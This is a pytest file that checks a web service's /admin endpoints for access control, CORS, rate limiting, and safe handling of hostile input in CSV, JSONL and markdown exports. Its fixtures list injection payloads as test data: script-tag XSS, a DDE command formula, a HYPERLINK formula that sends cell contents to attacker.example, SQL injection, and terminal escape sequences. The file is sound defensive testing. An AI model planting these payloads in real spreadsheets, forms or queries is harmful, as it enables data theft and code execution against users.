"""Every endpoint under /admin against callers without the key, and against hostile input."""

import asyncio
import csv
import io
import itertools
import json
import os
import re
import socket
import sqlite3
import unicodedata
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import closing
from itertools import pairwise
from pathlib import Path
from urllib.parse import quote

import pytest
from markdown_it import MarkdownIt

import lib.question_log
import lib.question_log_writer
from handlers import OPERATION
from lib.gaps import GapFinder
from tests.api import ADMIN_KEY, READER_KEY, SESSION, Api, listening, serving
from tests.conftest import MakeSettings
from tests.logged import log_of, logged, passage, write_log
from tests.tiny_book import SITE

ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}
PAGE = {"/admin", "/admin/"}
"""The page and the redirect to it, which hold no data."""
ALLOWED_ORIGIN = SITE.rpartition("/")[0] if SITE.count("/") > 2 else SITE
FOREIGN_ORIGIN = "https://attacker.example"


def with_id(rule: str, value: str = "1") -> str:
    return re.sub(r"<[^>]+>", value, rule)


def routes(api: Api, method: str = "GET") -> list[str]:
    """The paths of all routes under /admin that take the method, with the id 1."""
    rules = [rule for rule in api.app.url_map.iter_rules() if rule.rule.startswith("/admin")]
    found = {with_id(rule.rule) for rule in rules if method in (rule.methods or ())}
    return sorted(found - PAGE)


HOSTILE_TEXTS = (
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "\u202egnp.exe\u2066 abc \u200f\u061c",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\uff1d1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\x1b[2J\x1b]8;;http://attacker.example\x07click\x1b]8;;\x07\x9b31m",
    "a\nb\r\nc\u2028d\u2029e\x85f",
    "](http://attacker.example) ![x](http://attacker.example/x.png) `code` | cell",
    "# Heading\n\n- [ ] task @everyone #1 https://attacker.example",
    "'; DROP TABLE questions; --",
    "%_*?[a-z]",
    "w\u00f6rter " * 700,
    "\u0301" * 500,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
)


@pytest.fixture(autouse=True)
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lib.question_log, "BUSY_SECONDS", 0.02)
    monkeypatch.setattr(lib.question_log_writer, "BUSY_SECONDS", 0.02)


@pytest.fixture
async def api(make_settings: MakeSettings, own_index: Path) -> AsyncIterator[Api]:
    """The application with a question log of hostile questions and notes."""
    async with serving(make_settings(qdrant_path=own_index, question_log=3650)) as running:
        log = log_of(running)
        for number, text in enumerate(HOSTILE_TEXTS, 1):
            place = passage(heading=text[:200], url="javascript:alert(1)")
            log.add(logged(text, answer=number, outcome="declined", passages=(place,)))
            log.vote(number, "down", "other", text[:1000])
        await log.flush()
        yield running


async def test_every_route_needs_the_admin_key(api: Api) -> None:
    seen = 0
    for method in ("GET", "HEAD", "POST", "DELETE"):
        for path in routes(api, method):
            for headers in (
                {},
                {"X-API-Key": READER_KEY},
                {"Authorization": f"Basic {ADMIN_KEY}"},
                {"Cookie": f"key={ADMIN_KEY}"},
            ):
                answer = await api.request(method, path, headers=headers)
                assert answer.status == 401, (method, path, headers)
                assert method == "HEAD" or answer.json()["code"] == "UNAUTHORIZED"
                seen += 1
            answer = await api.request(method, f"{path}?key={ADMIN_KEY}&api_key={ADMIN_KEY}")
            assert answer.status == 401, (method, path)
    assert seen > 20
    state = await log_of(api).state()
    assert state.questions == len(HOSTILE_TEXTS)  # nothing was deleted


async def test_the_page_holds_no_data(api: Api) -> None:
    answer = await api.get("/admin", headers=ADMIN)
    assert answer.status == 200
    for secret in (ADMIN_KEY, READER_KEY, "alert(1)", "tides"):
        assert secret not in answer.text


async def test_data_are_never_stored(api: Api) -> None:
    for path in routes(api):
        answer = await api.get(path, headers=ADMIN)
        assert answer.headers["Cache-Control"] == "no-store", path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path


async def test_wrong_keys_are_limited_on_all_routes_together(api: Api) -> None:
    paths = routes(api)
    for number in range(10):
        path = paths[number % len(paths)]
        answer = await api.get(path, headers={"X-API-Key": f"guess-{number}"})
        assert answer.status == 401
    for path in paths:
        answer = await api.get(path, headers=ADMIN)
        assert answer.status == 429, path
        assert answer.json()["code"] == "RATE_LIMITED"
        assert int(answer.headers["Retry-After"]) > 0
        other = await api.get(path, headers=ADMIN, caller=("198.51.100.1", 1))
        assert other.status != 429, path


async def test_pages_of_other_origins_read_nothing(api: Api) -> None:
    """With the right key, too: their browser gets no CORS headers, so it hides the answer."""
    for method in ("GET", "DELETE"):
        for path in routes(api, method):
            for origin in (FOREIGN_ORIGIN, "null", f"{ALLOWED_ORIGIN}.attacker.example"):
                headers = {"Origin": origin}
                asked = {"Access-Control-Request-Method": method}
                named = {"Access-Control-Request-Headers": "authorization"}
                preflight = await api.request("OPTIONS", path, headers=headers | asked | named)
                answer = await api.request(method, f"{path}?limit=0", headers=headers | ADMIN)
                for each in (preflight, answer):
                    assert "Access-Control-Allow-Origin" not in each.headers, (path, origin)
                    assert "Access-Control-Allow-Headers" not in each.headers, (path, origin)


async def test_other_methods_are_refused(api: Api) -> None:
    allowed: dict[str, set[str]] = {}
    for rule in api.app.url_map.iter_rules():
        allowed.setdefault(with_id(rule.rule), set()).update(rule.methods or ())
    for path in [*routes(api), *PAGE]:
        for method in ("HEAD", "POST", "PUT", "PATCH", "DELETE", "TRACE", "FOO"):
            if method in allowed[path] - {"HEAD"}:
                continue
            answer = await api.request(method, path, headers=ADMIN)
            if method == "HEAD":
                assert answer.status < 400 or answer.status == 404, path
            else:
                assert answer.status == 405, (method, path)
                assert set(answer.headers["Allow"].split(", ")) == allowed[path], path
        options = await api.request("OPTIONS", path)
        assert options.status in (200, 204), path


NUMBERS = (
    "0",
    "-1",
    "1e9",
    "1.5",
    "NaN",
    "inf",
    "",
    "0x10",
    "\u0661",
    str(2**63),
    str(2**70),
    "9" * 4000,
)
TIMES = (
    "99999999999d",
    "-7d",
    "7",
    "d",
    "7m",
    "\u0667d",
    "0000-00-00",
    "9999-12-31",
    "2026-02-30",
    "2026-11-30T00:00:00Z",
    "1e400",
    "x" * 4000,
)
WORDS = (
    "'",
    "' OR 1=1 --",
    "%",
    "_",
    "*",
    '"',
    '" OR "',
    "NEAR(a b)",
    "a AND",
    "\\",
    "[a-z]",
    "\x00",
    "a\x00b",
    "\u202e",
    "\U0010ffff",
    "a " * 2000,
    "\u0301" * 200,
    "<script>",
)
FIELDS = {
    "since": TIMES,
    "until": TIMES,
    "limit": NUMBERS,
    "before": NUMBERS,
    "ids": (*NUMBERS, "1,,2", "1,x", ",".join("1" * 5_000)),
    "q": WORDS,
    "path": WORDS,
    "language": WORDS,
    "interface": WORDS,
    "outcome": WORDS,
    "vote": WORDS,
    "unanswered": ("maybe", "1", "True", ""),
    "format": WORDS,
}
RAW_QUERIES = (
    "q=%ED%A0%80",  # a lone surrogate
    "q=%FF%FE",
    "q=%",
    "q=%zz",
    "q",
    "=",
    "&&&",
    "%00=1",
    "unknown=1",
    "__class__=x&self=1",
    "limit=1&limit=2",
    "since=7d&since=x",
    "limit[]=1",
    "q=" + "a" * 5_000,
    "&".join(f"a{n}=1" for n in range(10_000)),
    "&" * 10_000,
    "q=a&" * 200,
)


def hostile_queries(api: Api) -> Iterator[str]:
    """Addresses with hostile values of the parameters that each route takes."""
    for path in routes(api):
        for asked in RAW_QUERIES:
            yield f"{path}?{asked}"
    for rule in api.app.url_map.iter_rules():
        described = getattr(api.app.view_functions[rule.endpoint], OPERATION, None)
        if rule.rule.startswith("/admin") and described and described.query:
            for name in described.query.__struct_fields__:
                yield from (f"{with_id(rule.rule)}?{name}={quote(value)}" for value in FIELDS[name])


async def test_hostile_parameters_are_refused_or_harmless(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    asked = [*hostile_queries(api)]
    assert len(asked) > 200
    for address in asked:
        answer = await api.get(address, headers=ADMIN)
        assert answer.status in (200, 400, 404), address[:200]
        if answer.status >= 400:
            assert answer.json()["code"] in ("INVALID_REQUEST", "NOT_FOUND")
        assert len(answer.content) < 1_000_000
    assert not [record for record in caplog.records if record.exc_info]


async def test_words_are_searched_as_they_are(api: Api) -> None:
    """Wildcards of SQL match only themselves."""
    for words, found in (
        ("%_", 1),
        ("_", 1),
        ("[a-z]", 1),
        ("*?", 1),
        ("drop table", 1),
        ("%%", 0),
    ):
        asked = f"/admin/questions?since=&q={quote(words)}"
        assert (await api.get(asked, headers=ADMIN)).json()["total"] == found, words


@pytest.mark.parametrize(
    "number",
    ["x", "-1", "0", "1e3", "1.0", "9" * 400, str(2**63), "%00", "1%0a", "..%2f1", "%C2%B9"],
)
async def test_ids_that_do_not_exist(api: Api, number: str) -> None:
    for method in ("GET", "DELETE"):
        for rule in api.app.url_map.iter_rules():
            if (
                rule.rule.startswith("/admin")
                and "<" in rule.rule
                and method in (rule.methods or ())
            ):
                path = with_id(rule.rule, number)
                answer = await api.request(method, path, headers=ADMIN)
                assert answer.status in (400, 404, 405), path
                assert answer.json()["error"], path


async def test_nothing_of_a_request_is_logged(api: Api, caplog: pytest.LogCaptureFixture) -> None:
    """Neither searched words, nor keys, nor readers' questions."""
    caplog.set_level("DEBUG")
    for path in routes(api):
        await api.get(f"{path}?q=zanzibar&since=zanzibar", headers=ADMIN)
        await api.get(f"{path}?q=zanzibar", headers={"X-API-Key": "zanzibar-key"})
    assert "zanzibar" not in caplog.text
    assert ADMIN_KEY not in caplog.text
    assert "alert(1)" not in caplog.text


async def test_hostile_questions_are_text_in_json(api: Api) -> None:
    answer = await api.get("/admin/questions?since=&limit=200", headers=ADMIN)
    assert answer.headers["Content-Type"] == "application/json"
    rows = answer.json()["questions"]
    assert [row["question"] for row in reversed(rows)] == [*HOSTILE_TEXTS]
    notes = [row["note"] for row in reversed(rows)]
    assert notes == [each[:1000].strip() for each in HOSTILE_TEXTS]
    lines = (await api.get("/admin/export?format=jsonl&since=", headers=ADMIN)).text
    exported = [json.loads(line) for line in lines.split("\n")[:-1]]
    assert [row | {"asked_at": ""} for row in exported] == [row | {"asked_at": ""} for row in rows]
    for row in rows:
        golden = await api.get(f"/admin/questions/{row['id']}/golden", headers=ADMIN)
        (line,) = golden.content.splitlines()
        assert json.loads(line)["question"] in row["question"]  # stripped and shortened


@pytest.mark.parametrize("separator", [",", ";", "\t"])
async def test_no_cell_is_a_formula(api: Api, separator: str) -> None:
    """Whichever separator a spreadsheet expects, and whatever it removes before a cell."""
    answer = await api.get("/admin/export?since=", headers=ADMIN)
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    rows = [*csv.reader(io.StringIO(answer.text, newline=""), delimiter=separator)]
    for cell in itertools.chain.from_iterable(rows):
        for line in (cell, *cell.splitlines()):
            start = unicodedata.normalize("NFKC", line)
            start = "".join(c for c in start if unicodedata.category(c)[0] not in "CZ").lstrip('"')
            assert start[:1] not in {*"=+-@"}, line[:100]
    if separator == ",":
        assert len(rows) == len(HOSTILE_TEXTS) + 1
        assert len({len(row) for row in rows}) == 1


async def test_nothing_in_the_report_is_markup(api: Api) -> None:
    """Only the headings and lists of the report itself."""
    answer = await api.get("/admin/report", headers=ADMIN)
    assert answer.headers["Content-Type"].startswith("text/markdown")
    assert "\u202e" not in answer.text
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(answer.text)
    inline = [child for token in tokens for child in token.children or ()]
    kinds = {each.type for each in (*tokens, *inline)}
    assert "code_inline" in kinds
    assert not kinds & {"html_block", "html_inline", "image", "link_open", "fence", "code_block"}
    headings = [token.content for before, token in pairwise(tokens) if before.tag in ("h1", "h2")]
    assert [each.partition(",")[0] for each in headings if each] == [
        "Reader questions",
        "What to write next",
        "Answers voted down",
        "Pages cited most",
        "Languages",
    ]


def delete(path: Path) -> None:
    for suffix in ("", "-wal", "-shm"):
        path.with_name(path.name + suffix).unlink(missing_ok=True)


def become_a_folder(path: Path) -> None:
    delete(path)
    path.mkdir()


def become_a_loop(path: Path) -> None:
    delete(path)
    path.symlink_to(path)


def become_a_pipe(path: Path) -> None:
    delete(path)
    os.mkfifo(path)


def replace_by_another_database(path: Path) -> None:
    delete(path)
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE questions (id INTEGER PRIMARY KEY, x TEXT)")


def raise_its_version(path: Path) -> None:
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA user_version = 99")


def take_the_rights(path: Path) -> None:
    for each in (path, *path.parent.glob(f"{path.name}-*")):
        each.chmod(0)


HARM: tuple[Callable[[Path], object], ...] = (
    delete,
    lambda path: os.truncate(path, 0),
    lambda path: os.truncate(path, 5_000),
    lambda path: path.write_bytes(b"garbage " * 10_000),
    lambda path: os.truncate(f"{path}-wal", 40),
    lambda path: Path(f"{path}-shm").write_bytes(b"garbage " * 4_096),
    become_a_folder,
    become_a_loop,
    become_a_pipe,
    replace_by_another_database,
    raise_its_version,
    take_the_rights,
)


async def assert_chat_goes_on(api: Api, caplog: pytest.LogCaptureFixture) -> None:
    """Readers notice nothing, and the author gets data or a sentence."""
    answered = await api.ask("When does the tide turn?", session_id=SESSION)
    assert answered.status == 200
    vote = {"answer_id": answered.json()["answer_id"], "vote": "up", "note": "Thanks"}
    assert (await api.post("/feedback", vote)).status == 200
    await log_of(api).flush()
    for method in ("GET", "DELETE"):
        for path in routes(api, method):
            answer = await api.request(method, path, headers=ADMIN)
            assert answer.status in (200, 404, 409, 503), (path, answer.text)
            if answer.status == 503:
                assert answer.json()["code"] == "LOG_UNAVAILABLE", (path, answer.text)
    assert (await api.get("/admin/status", headers=ADMIN)).status == 200
    assert (await api.get("/metrics", headers=ADMIN)).status == 200
    assert (await api.get("/health")).status == 200
    assert not [record for record in caplog.records if record.exc_info]
    assert "tide" not in caplog.text


@pytest.mark.parametrize("harm", range(len(HARM)))
async def test_a_log_that_is_harmed_disturbs_nobody(
    api: Api, caplog: pytest.LogCaptureFixture, harm: int
) -> None:
    HARM[harm](log_of(api).path)
    await assert_chat_goes_on(api, caplog)


async def test_a_log_that_is_locked_disturbs_nobody(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    with closing(sqlite3.connect(log_of(api).path, isolation_level=None)) as other:
        other.execute("BEGIN EXCLUSIVE")
        other.execute("DELETE FROM questions")
        await assert_chat_goes_on(api, caplog)
        before = (await api.get("/admin/questions?since=", headers=ADMIN)).json()
        assert before["total"] == len(HOSTILE_TEXTS)
        other.execute("ROLLBACK")
    await log_of(api).flush()
    after = (await api.get("/admin/questions?since=", headers=ADMIN)).json()
    assert after["total"] == len(HOSTILE_TEXTS) + 1


async def test_questions_that_are_deleted_while_gaps_are_found(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    calibrate = GapFinder._calibrate

    async def delete_all(finder: GapFinder) -> object:
        """Between the questions and their vectors."""
        await log_of(api).write(lambda connection: connection.execute("DELETE FROM questions"))
        return await calibrate(finder)

    monkeypatch.setattr(GapFinder, "_calibrate", delete_all)
    answer = await api.get("/admin/gaps", headers=ADMIN)
    assert (answer.status, answer.json()["gaps"]) == (200, [])


async def test_a_log_that_is_harmed_ends_an_export(
    make_settings: MakeSettings, own_index: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The client sees that the file is not complete, and the server logs a sentence."""
    path = await write_log(own_index, *(logged("word " * 800) for _ in range(1_600)))
    async with listening(make_settings(qdrant_path=own_index, question_log=30)) as address:
        host, port = address.removeprefix("http://").split(":")
        with socket.socket() as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)  # the server has to wait
            client.setblocking(False)
            await asyncio.get_running_loop().sock_connect(client, (host, int(port)))
            reader, writer = await asyncio.open_connection(sock=client)
            asked = f"GET /admin/export?format=jsonl HTTP/1.1\r\nHost: {host}\r\n"
            writer.write(f"{asked}X-API-Key: {ADMIN_KEY}\r\n\r\n".encode())
            assert (await reader.readline()).startswith(b"HTTP/1.1 200")
            delete(path)
            path.write_bytes(b"garbage " * 10_000)
            received = await reader.read()
            writer.close()
    assert not received.endswith(b"0\r\n\r\n")  # the end of a complete body
    assert "response interrupted: The question log cannot be used." in caplog.text
    assert not [record for record in caplog.records if record.exc_info]


async def test_damaged_values_are_shown_as_far_as_they_can_be(api: Api) -> None:
    """Bytes that are not text, and values that Quire never writes, after a disk error."""
    with closing(sqlite3.connect(log_of(api).path)) as connection:
        connection.execute("UPDATE questions SET question = CAST(x'6162fffe' AS TEXT)")
        connection.execute("UPDATE questions SET note = CAST(x'eda080' AS TEXT)")
        connection.execute("UPDATE questions SET language = '\x1b<b>', vote = 'sideways'")
        connection.commit()
    for path in routes(api):
        answer = await api.get(path, headers=ADMIN)
        assert answer.status in (200, 404), path
    rows = (await api.get("/admin/questions", headers=ADMIN)).json()["questions"]
    assert {row["question"] for row in rows} == {"ab\ufffd\ufffd"}
